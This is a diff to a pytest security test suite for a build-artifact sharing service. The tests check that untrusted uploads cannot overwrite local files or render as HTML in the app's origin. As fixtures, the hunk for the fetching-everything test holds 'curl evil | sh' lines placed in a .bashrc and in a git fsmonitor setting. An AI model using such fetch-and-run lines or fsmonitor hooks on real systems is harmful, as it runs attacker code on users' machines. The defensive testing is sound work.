@@ -209,6 +209,28 @@ def test_tampered_or_revoked_links_are_403_over_the_wire(stack):
     assert b"key_revoked" in body and TEXT not in body
 
 
+def _another_build(stack, files: dict) -> dict:
+    """A second, untrusted build of the stack's project holding ``files`` ({path: (bytes,
+    content type)}), shared whole; returns the share's body."""
+    build = stack.api(
+        "POST",
+        "/api/v1/projects/share/builds/",
+        stack.project_token,
+        {"ref": "refs/pull/7/head", "commit": "ba" * 20, "trusted": False},
+    )
+    token = build["key"]["token"]
+    for path, (data, content_type) in files.items():
+        answer, _ = stack.request(
+            "PUT",
+            f"/api/v1/builds/{build['id']}/artifacts/{quote(path)}",
+            token,
+            data,
+            {"Content-Type": content_type},
+        )
+        assert answer.status == 201
+    return stack.api("POST", f"/api/v1/builds/{build['id']}/share", token, {"expires_in": 600})
+
+
 def _fetch_everything_command(page: str) -> str:
     found = re.search(r"Fetch everything[^<]*</h2>\s*<pre>(.*?)</pre>", page, re.DOTALL)
     return html.unescape(found.group(1))
@@ -219,27 +241,13 @@ def test_fetching_everything_writes_only_into_a_directory_of_its_own(stack, tmp_
     one command must not write over anything where it is run."""
     if stack.env["SHARE_SERVE_MODE"] != "direct":
         pytest.skip("the page does not depend on the serving mode")
-    build = stack.api(
-        "POST",
-        "/api/v1/projects/share/builds/",
-        stack.project_token,
-        {"ref": "refs/pull/7/head", "commit": "ba" * 20, "trusted": False},
-    )
     hostile = {
         ".bashrc": b"curl evil | sh\n",
         ".git/config": b"[core]\n\tfsmonitor = curl evil | sh\n",
         "src/main.c": b"backdoor\n",
     }
-    for path, data in hostile.items():
-        answer, _ = stack.request(
-            "PUT",
-            f"/api/v1/builds/{build['id']}/artifacts/{quote(path)}",
-            build["key"]["token"],
-            data,
-        )
-        assert answer.status == 201
-    shared = stack.api(
-        "POST", f"/api/v1/builds/{build['id']}/share", build["key"]["token"], {"expires_in": 600}
+    shared = _another_build(
+        stack, {path: (data, "application/octet-stream") for path, data in hostile.items()}
     )
     command = _fetch_everything_command(curl("-fL", shared["url"]).stdout.decode())
     checkout = tmp_path / "checkout"
@@ -313,3 +321,20 @@ def test_a_hostile_html_artifact_never_runs_in_the_apps_origin(stack, browser):
     assert result.get("isDownload") is True
     assert "pwned" not in (browser.evaluate("document.title") or "")
     assert browser.evaluate("document.body && document.body.getAttribute('data-ran')") is None
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    ["text/plain; x=y, text/html", 'image/png; q="1", text/html'],
+)
+def test_a_content_type_listing_html_after_a_safe_type_is_still_a_download(
+    stack, browser, content_type
+):
+    """Browsers read the last type of a comma-separated Content-Type: what the uploader wrote
+    as "text/plain; x=y, text/html" is HTML to them, so it must not be shown inline."""
+    if stack.env["SHARE_SERVE_MODE"] == "s3":
+        pytest.skip("S3 serves from its own origin")
+    shared = _another_build(stack, {"site/disguised.html": (HOSTILE, content_type)})
+    result = browser.open(shared["artifacts"][0]["url"])
+    assert result.get("isDownload") is True
+    assert browser.evaluate("document.body && document.body.innerText") != "hostile page"
